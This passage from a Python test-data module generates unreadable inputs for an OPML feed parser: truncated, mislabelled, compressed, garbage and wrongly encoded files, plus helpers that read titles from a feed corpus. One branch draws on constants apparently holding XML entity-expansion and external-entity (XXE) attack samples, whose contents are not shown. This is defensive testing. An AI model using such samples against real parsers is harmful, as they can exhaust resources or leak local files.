    '<opml version="2.0"><body><outline text="a<b" xmlUrl="https://a.example/"/></body></opml>',
    '<opml version="2.0"><body><outline text="&bogus;" xmlUrl="https://a.example/"/></body></opml>',
    '<opml version="2.0"><body/></opml><opml version="2.0"><body/></opml>',
    '{"version": "https://jsonfeed.org/version/1", "title": "not xml"}',
]


def broken_document(rng: random.Random, good: bytes) -> tuple[str, bytes]:
    """A file nothing can be read from, and what it is. ``good``: a readable
    document to cut short or mislabel."""
    k = rng.randrange(12)
    if k == 0:
        return "empty", rng.choice([b"", b"   \n\t", codecs.BOM_UTF8, codecs.BOM_UTF16_LE])
    if k == 1:
        end = good.rfind(b"</opml>")
        if end <= 0:
            return "empty", b""
        return "truncated", good[: rng.randrange(0, end)]
    if k == 2:
        return "html", rng.choice(_HTML).encode()
    if k == 3:
        text = rng.choice([_LAUGHS, _QUADRATIC, _XXE, _PARAM, _EXTERNAL_UNDEFINED])
        codec = rng.choice(["utf-8", "utf-16", "utf-16-le"])
        if codec != "utf-8":
            text = text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
        return "entities", text.encode(codec)
    if k == 4:
        return "other xml", rng.choice(_OTHER_XML).encode()
    if k == 5:
        files = corpus_files()
        if files:
            return "a feed from the corpus", rng.choice(files).read_bytes()
        return "other xml", _OTHER_XML[3].encode()
    if k == 6:
        # says UTF-8, is Latin-1
        text = '<?xml version="1.0" encoding="UTF-8"?><opml version="2.0"><body>'
        text += '<outline text="café" xmlUrl="https://a.example/"/></body></opml>'
        return "lying encoding", text.encode("latin-1")
    if k == 7:
        text = '<?xml version="1.0" encoding="x-no-such-codec"?><opml><body/></opml>'
        return "unknown encoding", text.encode()
    if k == 8:
        import gzip

        return "gzip", gzip.compress(good)
    if k == 9:
        return "garbage", bytes(rng.randrange(256) for _ in range(rng.randint(1, 3000)))
    if k == 10:
        return "png", b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(200))
    # UTF-16 with a byte-order mark, cut in the middle of a character
    data = good.decode("utf-8", "replace").encode("utf-16")
    return "odd utf-16", data[: len(data) // 2 * 2 - 1] if len(data) > 4 else b"\xff\xfe<"


# -- the shared corpus ----------------------------------------------------------


@dataclass(frozen=True)
class CorpusFeed:
    title: str
    ident: Ident
    site: str | None


@functools.cache
def corpus_files() -> list[Path]:
    """The corpus's feed files (not its licences, provenance notes or OPML files)."""
    if not CORPUS.is_dir():
        return []
    return [
        p
        for p in sorted(CORPUS.glob("*/files/**/*"))
        if p.is_file() and p.suffix.lower() != ".opml" and p.stat().st_size < 300_000
    ]


_XML_INVALID = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
_TITLE = re.compile(rb"<title[^>]*>(.*?)</title>", re.S | re.I)
_SELF = re.compile(rb"<(?:atom:)?link[^>]*\brel=[\"']self[\"'][^>]*>", re.I)
_HREF = re.compile(rb"\bhref=[\"']([^\"']+)[\"']")


@functools.cache
def corpus_feeds() -> list[CorpusFeed]:
    """Real titles and addresses: RSParser's Subs.opml (a NetNewsWire list) and the
    corpus feeds' own titles and self links. Read where they lie."""
    out: list[CorpusFeed] = []
    if not CORPUS.is_dir():
        return out
    for opml in sorted(CORPUS.rglob("*.opml")):
        try:
            root = ET.fromstring(opml.read_bytes())
        except ET.ParseError:
            continue
        for o in root.iter("outline"):
            ident = ident_of((o.get("xmlUrl") or "").strip())
            if ident is not None:
                title = _XML_INVALID.sub("", o.get("title") or o.get("text") or "")
                out.append(CorpusFeed(title, ident, o.get("htmlUrl") or None))
    for p in corpus_files():
        data = p.read_bytes()[:200_000]
        m, s = _TITLE.search(data), _SELF.search(data)
        if not m or not s:
            continue
        href = _HREF.search(s.group(0))
        ident = ident_of(href.group(1).decode("utf-8", "replace")) if href else None
        if ident is None:
            continue
        raw = m.group(1).decode("utf-8", "replace")
        raw = re.sub(r"<!\[CDATA\[(.*?)\]\]>", r"\1", raw, flags=re.S)
        out.append(CorpusFeed(_XML_INVALID.sub("", html.unescape(raw)), ident, None))
    return out
